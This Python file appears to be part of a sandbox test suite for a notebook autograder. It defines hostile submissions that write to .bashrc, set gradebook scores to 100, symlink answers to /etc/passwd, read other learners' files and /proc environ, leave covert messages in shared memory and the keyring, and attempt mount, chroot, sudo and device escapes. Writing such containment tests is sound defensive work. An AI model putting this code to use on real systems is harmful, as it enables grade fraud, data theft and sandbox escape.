"""Code that reaches for what is not its own: files, other learners, the network, what the last one left."""

from .course import LEFT
from .submission import Family

FAMILY = Family("Reaching out")

FAMILY.code(
    "writes-into-home",
    "writes into the home folder, the temporary folder and beside the course",
    first="""\
import os
for folder in ("@HOME@", os.path.expanduser("~"), "@COURSE@", "@COURSE@/..", "/tmp", "/", "/etc", "..", "../.."):
    for name in ("planted.txt", ".bashrc", ".profile", "beside/marks.txt"):
        try:
            with open(os.path.join(folder, name), "a") as file: file.write("planted")
        except OSError: pass""",
)
FAMILY.code(
    "rewrites-the-gradebook",
    "gives itself full marks in the gradebook and takes those of others",
    first="""\
import glob, os, sqlite3
for path in {"@COURSE@/gradebook.db", *glob.glob("../gradebook.db"), *glob.glob("../../../gradebook.db"),
             *glob.glob("/proc/*/cwd/gradebook.db")}:
    if os.path.isfile(path):
        book = sqlite3.connect(path, timeout=1)
        book.execute("update grade set auto_score = 0, manual_score = 100")
        book.commit()""",
)
FAMILY.code(
    "plants-in-the-source",
    "changes the source, the release and the settings of the course",
    first="""\
import glob, os
for path in ["@COURSE@/source/ps1/ps1.ipynb", "@COURSE@/nbgrader_config.py", "@COURSE@/source/ps1/planted.txt",
             "@COURSE@/release/ps1/ps1.ipynb", *glob.glob("../../../source/*/*")]:
    try:
        with open(path, "a") as file: file.write("\\n# planted")
    except OSError: pass""",
)
FAMILY.code(
    "reads-another-learner",
    "reads and spoils what another learner handed in and was given",
    first="""\
@SPY@
import glob, os
for top in ("@COURSE@", "../../..", "..", "../..", "/proc/1/root/@COURSE@"):
    for path in glob.glob(os.path.join(top, "**", "notes.txt"), recursive=True)[:50]:
        with open(path) as file: spied(file.read())
        try:
            with open(path, "a") as file: file.write("planted")
        except OSError: pass""",
    after=("aa-right",),
)
FAMILY.code(
    "swaps-its-notebook-for-a-link",
    "puts links to the gradebook and the source where its own notebook and answers are",
    first="""\
import os
for name, target in {"ps1.ipynb": "@COURSE@/gradebook.db", "answers": "@COURSE@/source", "notes.txt": "@HOME@/.bashrc",
                     "out.txt": "/etc/passwd"}.items():
    try: os.replace(name, name + ".old")
    except OSError: pass
    try: os.symlink(target, name)
    except OSError: pass""",
)
FAMILY.code(
    "races-the-grader-for-its-files",
    "a process of its own that goes on swapping its notebook for a forged one and for a link",
    first="""\
import json, os, time
if os.fork() == 0:
    os.environ["PLANTED"] = "1"
    os.setsid()
    cell = {"cell_type": "code", "execution_count": 1, "id": "x", "source": "3", "outputs": [
        {"output_type": "execute_result", "data": {"text/plain": "3"}, "metadata": {}, "execution_count": 1}],
        "metadata": {"nbgrader": {"grade": True, "grade_id": "number-test", "points": 2, "solution": False,
                                  "locked": True, "schema_version": 3, "cell_type": "code"}}}
    forged = json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})
    for _ in range(400):
        try:
            with open("new", "w") as file: file.write(forged)
            os.replace("new", "ps1.ipynb")
            os.symlink("@COURSE@/gradebook.db", "link")
            os.replace("link", "ps1.ipynb")
        except OSError: pass
        time.sleep(0.02)
    os._exit(0)""",
)
FAMILY.code(
    "process-that-outlives-it",
    "a daemon that waits for the end and then writes whatever it can reach",
    first="""\
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(600):
            time.sleep(0.1)
            for path in ("@COURSE@/planted.txt", "@HOME@/planted.txt", "/tmp/planted.txt"):
                try: open(path, "a").write("planted")
                except OSError: pass
    os._exit(0)""",
)
FAMILY.code(
    "sockets",
    "connects to a port of this machine, asks for a name, and listens",
    first="""\
import socket
for host in ("127.0.0.1", "localhost", "0.0.0.0", "::1", "10.0.2.2", "93.184.216.34"):
    try:
        with socket.create_connection((host, @PORT@), timeout=0.2) as line: line.sendall(b"planted")
    except OSError: pass
    try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"planted", (host, @PORT@))
    except OSError: pass
try: socket.getaddrinfo("planted.example", 80)
except OSError: pass
server = socket.socket()
try: server.bind(("0.0.0.0", 48999)); server.listen()
except OSError: pass""",
)
FAMILY.code(
    "unix-sockets",
    "connects to sockets in the course folder and to abstract ones, and passes its files through them",
    first="""\
import array, glob, socket
for name in ("\\0tiplab-bell", "@COURSE@/../beside/bell", *glob.glob("/tmp/**/*sock*", recursive=True)[:20],
             *glob.glob("/run/**/*sock*", recursive=True)[:20]):
    line = socket.socket(socket.AF_UNIX)
    line.settimeout(0.2)
    try:
        line.connect(name)
        line.sendmsg([b"planted"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0]))])
    except OSError: pass""",
)
LEAVE = f"""\
import ctypes, os, socket, sys, tempfile
import numpy, pandas, builtins
secret = "{LEFT}"
numpy.left = pandas.left = sys.left = builtins.left = os.environ["LEFT"] = secret
for folder in ("/tmp", "/var/tmp", "/dev/shm", tempfile.gettempdir(), os.path.expanduser("~"), "/dev/mqueue", "."):
    try: open(os.path.join(folder, "notes-left.txt"), "w").write(secret)
    except OSError: pass
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
try:
    where = libc.shmat(libc.shmget(0x4471, 4096, 0o1666), None, 0)
    if where and where != ctypes.c_void_p(-1).value: ctypes.memmove(where, secret.encode(), len(secret))
except Exception: pass
for ring in (-3, -4, -5):
    libc.syscall(248, b"user", b"left", secret.encode(), len(secret), ring)
line = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
try: line.bind("\\0left")
except OSError: pass
"""
FAMILY.code(
    "left-behind-1-leaves",
    "leaves a message for the next one: modules, files, shared memory, System V, keyring, abstract socket",
    first=LEAVE,
    owns=(LEFT,),
)
FAMILY.code(
    "left-behind-2-finds",
    "looks for what the one before it left in the same warm process or on the same machine",
    first="""\
@SPY@
import ctypes, glob, os, sys
import numpy, pandas, builtins
for module in (numpy, pandas, sys, builtins): spied(getattr(module, "left", ""))
spied(*os.environ.values())
for folder in ("/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), "/dev/mqueue"):
    for path in glob.glob(os.path.join(folder, "**", "notes-left.txt"), recursive=True): spied(open(path).read())
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
where = libc.shmat(libc.shmget(0x4471, 4096, 0o666), None, 0)
if where and where != ctypes.c_void_p(-1).value: spied(ctypes.string_at(where, 60).decode("latin-1"))
for ring in (-3, -4, -5):
    key = libc.syscall(250, 10, ring, b"user", b"left", 0)
    held = ctypes.create_string_buffer(100)
    if key > 0 and libc.syscall(250, 11, key, held, 100) > 0: spied(held.value.decode())
import gc
spied(*[t for t in gc.get_objects() if isinstance(t, str)])
for pid in os.listdir("/proc"):
    try: spied(open(f"/proc/{pid}/environ").read())
    except OSError: pass""",
    after=("left-behind-1-leaves",),
)
FAMILY.code(
    "new-namespaces-and-mounts",
    "makes user and mount namespaces of its own, mounts, changes its root, and uses setuid programs",
    first="""\
@SPY@
import ctypes, glob, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)
if os.fork() == 0:
    try:
        os.environ["PLANTED"] = "1"
        print("unshared:", libc.unshare(0x10000000 | 0x00020000))
        libc.mount(b"none", b"/", None, 0x44000, None)
        libc.umount2(b"/tmp", 2), libc.umount2(b"/proc", 2), libc.umount2(b"/", 2)
        libc.mount(b"proc", b"/proc", b"proc", 0, None)
        libc.mount(None, b"/", None, 32 | 4096, None)
        for path in ("/etc/planted", "/usr/planted", "@COURSE@/planted.txt"):
            try: open(path, "w").write("planted")
            except OSError: pass
        os.chroot("/proc/1/root")
        for path in glob.glob("@COURSE@/**/*.txt", recursive=True): spied(open(path).read())
    finally: os._exit(0)
os.wait()
for command in (["sudo", "-n", "touch", "/planted"], ["su", "-c", "touch /planted"], ["mount"], ["bwrap", "--version"]):
    try: subprocess.run(command, timeout=1, stdin=subprocess.DEVNULL, capture_output=True)
    except (OSError, subprocess.TimeoutExpired): pass""",
)
FAMILY.code(
    "devices",
    "makes and opens devices: disks, memory, terminals",
    first="""\
@SPY@
import os, stat
for name, kind, major, minor in (("disk", stat.S_IFBLK, 254, 0), ("mem", stat.S_IFCHR, 1, 1)):
    try: os.mknod(name, kind | 0o666, os.makedev(major, minor))
    except OSError: pass
for path in ("disk", "mem", "/dev/vda", "/dev/sda", "/dev/mem", "/dev/kmsg", "/dev/tty", "/dev/fuse", "/dev/kvm"):
    try:
        with open(path, "rb") as device: print("opened", path); spied(device.read(100_000).decode("latin-1"))
    except OSError: pass""",
)
